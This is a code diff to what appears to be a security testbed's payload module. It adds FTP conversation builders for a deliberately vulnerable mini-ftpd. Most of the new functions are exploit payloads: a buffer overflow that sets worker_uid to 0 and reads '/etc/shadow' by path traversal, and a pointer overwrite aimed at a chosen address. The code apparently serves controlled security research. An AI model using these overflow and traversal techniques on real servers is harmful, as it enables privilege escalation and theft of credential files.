@@ -114,3 +114,72 @@ def benign_request(path: str = "/index.html", annotation: str | None = None) -> 
             raise ValueError("a benign annotation must fit in the buffer")
         headers[VULNERABLE_HEADER] = annotation
     return format_request(path, headers=headers)
+
+
+# ---------------------------------------------------------------------------
+# FTP payloads (the second serving workload)
+# ---------------------------------------------------------------------------
+#
+# The mini-ftpd reuses the httpd's vulnerable state layout byte-for-byte, so
+# the same :class:`OverflowSpec` words drive both applications; only the
+# carrier differs: a ``SITE ANNOTATE`` command line instead of an
+# ``X-Annotation`` header.  Every overflow word the standard attacks use
+# (0, 1000, 1001, the injected banner addresses) is CR/LF-free, so the
+# rendered overflow survives FTP's line framing unmangled.
+
+#: The scripted FTP client's login pair.
+FTP_USER = "anonymous"
+FTP_PASSWORD = "guest"
+
+#: Default benign RETR target on the FTP site.
+DEFAULT_FTP_PATH = "/welcome.txt"
+
+
+def format_ftp_commands(commands: list[str]) -> bytes:
+    """Serialise an FTP conversation: CRLF-joined latin-1 command lines."""
+    return "".join(command + "\r\n" for command in commands).encode("latin-1")
+
+
+def _ftp_conversation(*, annotation: str | None, paths: list[str]) -> bytes:
+    """A full login/annotate/retrieve/quit conversation."""
+    commands = [f"USER {FTP_USER}", f"PASS {FTP_PASSWORD}"]
+    if annotation is not None:
+        commands.append(f"SITE ANNOTATE {annotation}")
+    commands.extend(f"RETR {path}" for path in paths)
+    commands.append("QUIT")
+    return format_ftp_commands(commands)
+
+
+def ftp_benign_request(path: str = DEFAULT_FTP_PATH, annotation: str | None = None) -> bytes:
+    """A well-formed FTP conversation, optionally with an in-bounds annotation."""
+    if annotation is not None and len(annotation) >= ANNOTATION_BUFFER_SIZE:
+        raise ValueError("a benign annotation must fit in the buffer")
+    return _ftp_conversation(annotation=annotation, paths=[path])
+
+
+def ftp_uid_overwrite_payload(
+    uid: int = 0,
+    *,
+    path: str | None = None,
+    partial_bytes: int = 4,
+) -> bytes:
+    """An FTP conversation whose annotation overflow overwrites ``worker_uid``.
+
+    The overflow bytes are identical to :func:`uid_overwrite_payload`'s; the
+    RETR path defaults to the same ``/etc/shadow`` traversal (``..`` clamps
+    at the filesystem root, so one traversal string escapes any docroot).
+    """
+    spec = OverflowSpec(fields=(uid,), partial_bytes=partial_bytes)
+    return _ftp_conversation(
+        annotation=spec.header_value(), paths=[path or traversal_path()]
+    )
+
+
+def ftp_banner_pointer_payload(address: int, *, path: str = DEFAULT_FTP_PATH) -> bytes:
+    """An FTP conversation that overwrites the banner pointer with *address*.
+
+    The following RETR dereferences the planted pointer (the ftpd's
+    per-transfer banner touch), mirroring :func:`banner_pointer_payload`.
+    """
+    spec = OverflowSpec(fields=(0, 0, 0, address))
+    return _ftp_conversation(annotation=spec.header_value(), paths=[path])
